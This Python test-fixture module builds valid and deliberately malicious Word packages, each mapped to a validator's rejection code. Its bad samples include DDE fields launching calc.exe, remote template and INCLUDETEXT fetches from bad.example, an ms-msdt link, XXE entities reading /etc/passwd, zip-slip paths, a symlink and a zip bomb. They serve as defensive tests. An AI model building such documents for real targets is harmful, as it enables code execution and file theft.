"""Word files, good and bad, made by programs: each bad one by the code of why it is refused."""
import io
import zipfile

import docx

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'


def word(text="Báo cáo"):
    """As python-docx writes it, with the parts Word writes."""
    document, content = docx.Document(), io.BytesIO()
    document.add_paragraph(text)
    document.core_properties.subject = "Số 07-BC/BTGHU"
    document.save(content)
    return content.getvalue()


def package(*, body="<w:p/>", words=_WORDS, main=_MAIN, types="", relations="", parts=(), root=None, packing=zipfile.ZIP_DEFLATED):
    """A package written by hand: what a test leaves out is right."""
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", packing) as archive:
        archive.writestr("[Content_Types].xml", root or (
            f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
        ))
        archive.writestr("_rels/.rels", _relations(f'<Relationship Id="r1" Type="{_RELATED}officeDocument" Target="word/document.xml"/>'))
        archive.writestr("word/document.xml", f"{head}<w:document {words}><w:body>{body}</w:body></w:document>")
        archive.writestr("word/_rels/document.xml.rels", _relations(relations))
        for name, part in parts:
            archive.writestr(name, part)
    return content.getvalue()


def _relations(rows):
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    )


def related(kind, target, mode="External"):
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r9" Type="{_RELATED}{kind}" Target="{target}"{mode}/>'


def typed(part, kind):
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def field(*pieces):
    """A field whose instruction is written in pieces, as Word does after an edit."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def locked_entry():
    """The flag that says a part is encrypted."""
    content = bytearray(package())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def spoilt():
    """A part whose bytes do not fit its checksum."""
    content = bytearray(package(parts=[("word/media/a.png", b"CANARY-PICTURE")], packing=zipfile.ZIP_STORED))
    content[content.find(b"CANARY-PICTURE")] ^= 1
    return bytes(content)


def plain_zip():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("a.txt", "x")
    return content.getvalue()



def linked():
    """A part that is a link to a file of the server."""
    content = io.BytesIO(package())
    with zipfile.ZipFile(content, "a") as archive:
        info = zipfile.ZipInfo("word/media/a.png")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return content.getvalue()


_BOMB = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'

GOOD = {
    "as python-docx writes it": word(),
    "by hand": package(),
    "a link": package(relations=related("hyperlink", "https://an-lac.example/") + related("hyperlink", "mailto:a@an-lac.example")),
    "a picture": package(parts=[("word/media/a.png", b"\x89PNG")], relations=related("image", "media/a.png", "")),
    "a page number": package(body=field(" PA", "GE ")),
    "a table of contents with links": package(body=field(' HYPERLINK \\l "_Toc1" ')),
    "many pages of plain words": package(
        body="".join(f"<w:p><w:r><w:t>Chi bộ thôn {i} xã Tân Lập</w:t></w:r></w:p>" for i in range(30_000))
    ),
}

BAD = {
    "a zip of anything": ("word_not", package(main="application/xml")),
    "no table of types": ("word_not", plain_zip()),
    "a workbook": ("word_not", package(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
    "a macro document by another name": ("word_macros", package(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
    "a macro project": ("word_macros", package(
        types=typed("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), parts=[("word/vbaProject.bin", b"x")]
    )),
    "a macro project by another name": ("word_macros", package(
        types=typed("word/a.bin", "application/vnd.ms-office.vbaProject"), parts=[("word/a.bin", b"x")]
    )),
    "a relation to macros": ("word_macros", package(relations=(
        '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"/>'
    ))),
    "an object": ("word_embedded", package(
        types=typed("word/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        parts=[("word/oleObject1.bin", b"x")],
    )),
    "a workbook within": ("word_embedded", package(parts=[("word/embeddings/Sheet1.xlsx", b"x")])),
    "a control": ("word_embedded", package(
        types=typed("word/x.xml", "application/vnd.ms-office.activeX+xml"), parts=[("word/x.xml", b"<a/>")]
    )),
    "an object in the text": ("word_embedded", package(body="<w:p><w:r><w:object/></w:r></w:p>")),
    "an object in the text of the strict form": ("word_embedded", package(words=_STRICT, body="<w:p><w:r><w:object/></w:r></w:p>")),
    "a web page within": ("word_embedded", package(relations=related("aFChunk", "a.xml", ""))),
    "a template elsewhere": ("word_external", package(relations=related("attachedTemplate", "https://bad.example/a.dotm"))),
    "a picture elsewhere": ("word_external", package(relations=related("image", "https://bad.example/a.png"))),
    "an object elsewhere": ("word_external", package(relations=related("oleObject", "mhtml:https://bad.example/a"))),
    "a link that runs": ("word_external", package(relations=related("hyperlink", "ms-msdt:/id"))),
    "a link of script": ("word_external", package(relations=related("hyperlink", "javascript:alert(1)"))),
    "a field that starts a program": ("word_external", package(body=field(" DD", 'EAUTO c:\\\\windows\\\\calc.exe "a" '))),
    "a simple field that starts a program": ("word_external", package(body='<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>')),
    "a field that fetches": ("word_external", package(body=field(' INCLUDETEXT "https://bad.example/a" '))),
    "a program": ("word_odd_part", package(
        types=typed("word/a.exe", "application/x-msdownload"), parts=[("word/a.exe", b"MZ")]
    )),
    "a program said to be a picture": ("word_odd_part", package(types=typed("word/a.exe", "image/png"), parts=[("word/a.exe", b"MZ")])),
    "a part of no kind": ("word_odd_part", package(parts=[("word/a.bin", b"x")])),
    "entities": ("word_broken", package(parts=[("word/a.xml", _BOMB)])),
    "entities in UTF-16": ("word_broken", package(parts=[("word/a.xml", _BOMB.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16"))])),
    "a file of the server": ("word_broken", package(parts=[("word/a.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')])),
    "a grammar from elsewhere": ("word_broken", package(parts=[("word/a.xml", '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><a/>')])),
    "a link": ("word_broken", linked()),
    "a part of Windows": ("word_broken", package(parts=[("word\\..\\..\\a.xml", "<a/>")])),
    "a part from the root": ("word_broken", package(parts=[("/etc/cron.d/a.xml", "<a/>")])),
    "a Word file within": ("word_embedded", package(parts=[("word/embeddings/a.docx", b"x")])),
    "no XML": ("word_broken", package(parts=[("word/a.xml", b"<a")])),
    "a part twice": ("word_broken", package(parts=[("word/Document.XML", b"<a/>")])),
    "a part outside": ("word_broken", package(parts=[("../../a.xml", b"<a/>")])),
    "a part spoilt": ("word_broken", spoilt()),
    "cut short": ("word_broken", package()[:-40]),
    "a bomb": ("word_too_large", package(parts=[("word/a.xml", b" " * 40_000_000)])),
    "too many parts": ("word_too_large", package(parts=[(f"word/a{i}.xml", b"<a/>") for i in range(2_001)])),
    "locked parts": ("word_locked", locked_entry()),
}

